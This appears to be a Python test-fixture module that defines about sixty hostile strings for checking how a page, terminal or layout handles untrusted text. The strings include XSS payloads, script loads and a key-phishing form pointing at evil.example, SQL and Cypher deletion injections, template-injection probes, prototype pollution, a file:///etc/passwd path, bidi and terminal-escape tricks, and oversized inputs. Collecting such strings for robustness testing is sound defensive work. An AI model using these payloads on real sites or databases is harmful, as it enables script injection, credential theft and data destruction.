"""Sixty texts that a page, a terminal or a layout may take for something else than text."""

OWNED = "document.title='owned'"

MARKUP = [
    f"<script>{OWNED}</script>",
    f"<ScRiPt >{OWNED}</sCrIpT>",
    f'<scr<script>ipt>{OWNED}</scr</script>ipt>"',
    f'<script type="module">import("data:text/javascript,{OWNED}")</script>',
    "<script src='https://evil.example/x.js'></script>",
    f'<img src=x onerror="{OWNED}">',
    f"<img/src=x/onerror={OWNED}>",
    f'<img src="x` `<script>{OWNED}</script>"` `>',
    f'<body onload="{OWNED}" onpageshow="{OWNED}">',
    f'<video><source onerror="{OWNED}"></video>',
    f'<input autofocus onfocus="{OWNED}">',
    f'\'"><details open ontoggle="{OWNED}">',
    f'" onmouseover="{OWNED}" style="position:fixed;inset:0',
    f'<marquee onstart="{OWNED}">news</marquee>',
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    "<iframe src='//evil.example'></iframe><object data='//evil.example'></object><embed src='//e'>",
    "<dialog open>Give your key</dialog><form action='https://evil.example/'><input name=key>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "</div></main></body></html><h1>owned</h1>",
    "</textarea></select></title></style></script><h1>owned</h1>",
    "<template><h1>owned</h1></template><slot name=x></slot><my-element></my-element>",
    "]]>--><!-- &lt;script&gt; &#x3c;h1&#x3e; &amp;lt;",
]
SVG = [
    f'<svg onload="{OWNED}">',
    f"<svg><script>{OWNED}</script></svg>",
    f'<svg><animate onbegin="{OWNED}" attributeName=x dur=1s></svg>',
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><h1>owned</h1></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={OWNED}></style></math>",
]
STYLE = [
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "color:red;background:url(https://evil.example/x.png);position:fixed;top:0;left:0;width:9999px",
    "</style><style>@import 'https://evil.example/x.css';body{width:9999px}",
]
ADDRESSES = [
    f'<a href="javascript:{OWNED}">click</a>',
    f"javascript:{OWNED}//",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/?q=<b>&x=%0d%0aSet-Cookie:a=b",
    "%3Cscript%3E ../../.. ?client=evil#/forget",
    "#/cypher?query=MATCH",
    "\\\\evil.example\\share\\x file:///etc/passwd",
]
TEMPLATES = [
    f"{{{{constructor.constructor('{OWNED}')()}}}} ${{{OWNED}}}",
    "<%= 7*7 %> {% import os %} #{7*7} @(7*7) [[7*7]]",
    "$1 $& $` $' %s %n %d {0} {}",
    "'; DROP TABLE memories; -- \" OR 1=1 //",
    "') RETURN 1 UNION MATCH (n) DETACH DELETE n //",
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {}}}',
    "__proto__",
    "constructor",
]
NOTHINGS = ["null", "undefined", "NaN", "[object Object]", "-0", "1e400", "true"]
DIRECTIONS = [
    "\u202egnorw si txet siht\u202c \u2066isolated\u2069 \u200f\u200e",
    "\u202e" * 40 + "never closed",
    "\u2067" * 200 + "isolates that are never closed",
    "مرحبا بالعالم <b>bold</b> עברית 123",
    "\u061c\u200f!\u202d)(",
]
SHAPES = [
    "Z\u0351\u0352\u0353a\u0354\u0355\u0356l" * 60,
    "g" + "\u0310" * 3_000 + "o",
    "a" * 5_000,
    "\u00a0" * 3_000 + "x",
    "W" * 300 + "\u00ad" * 300,
    "\ufeff\u200b\u200c\u200d\u2060\u00ad",
    "\u2028\u2029 tab\tand\nlines\r\n\v\f" + "\n" * 400 + "end",
    "🏴‍☠️👩‍👩‍👧‍👦" * 200,
    "﷽" * 400,
    "\U000e0041\U000e0042\ufffd\ufffe\U0010ffff \ue000",
    "\x1b[31mred\x1b]0;owned\x07\x08\x08\x7f\x9b2J",
    "| a | b |\n|---|---|\n\n# head\n\n```\n![x](https://evil.example/x.png) [y](javascript:1)",
]
LONG = "<b>" + "x" * 999_000
"""A megabyte, which is more than a page may lay out at once."""

HOSTILE = [
    *MARKUP,
    *SVG,
    *STYLE,
    *ADDRESSES,
    *TEMPLATES,
    *NOTHINGS,
    *DIRECTIONS,
    *SHAPES,
    LONG,
]
